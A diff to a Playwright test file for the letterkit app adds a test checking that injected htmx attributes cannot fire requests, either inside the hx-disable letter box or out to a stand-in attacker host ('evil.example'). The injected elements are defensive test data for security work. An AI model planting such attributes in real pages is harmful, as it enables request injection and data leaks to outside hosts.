@@ -278,3 +278,34 @@ def test_every_page_works_without_javascript_and_passes_axe(server: Server, brow
     page.close()
     stopped = server.stop()
     assert "letterkit stopped." in stopped
+
+
+def test_injected_htmx_attributes_cannot_act(server: Server, browser: Any) -> None:
+    """Were markup ever to get into a letter shown in a page, htmx would not act on it: the
+    letter's box is hx-disable, and htmx sends requests to this server only. (The markup is
+    put in by the test, through the browser's own tools: letterkit escapes every word.)"""
+    shutil.copy(ROOT / "samples" / "peter-goodbye.yaml", server.folder / "peter.yaml")
+    context = browser.new_context(bypass_csp=True, viewport={"width": 1280, "height": 900})
+    page = context.new_page()
+    page.goto(server.link)
+    page.goto(server.base + "/letters/peter.yaml")
+    page.wait_for_function("() => window.htmx !== undefined")
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.evaluate(
+        """() => {
+        const add = (where, attrs) => {
+            const el = document.createElement('div');
+            for (const [k, v] of Object.entries(attrs)) el.setAttribute(k, v);
+            document.querySelector(where).appendChild(el);
+            htmx.process(el);
+        };
+        add('.letter-preview', {'hx-get': '/api/v1/letters?inside=1', 'hx-trigger': 'load'});
+        add('main', {'hx-get': 'http://evil.example/?outside=1', 'hx-trigger': 'load'});
+        add('main', {'hx-get': '/api/v1/letters?control=1', 'hx-trigger': 'load'});
+    }"""
+    )
+    page.wait_for_timeout(1500)
+    assert any("control=1" in url for url in asked), asked  # the injection itself works
+    assert not any("inside=1" in url or "evil.example" in url for url in asked), asked
+    context.close()
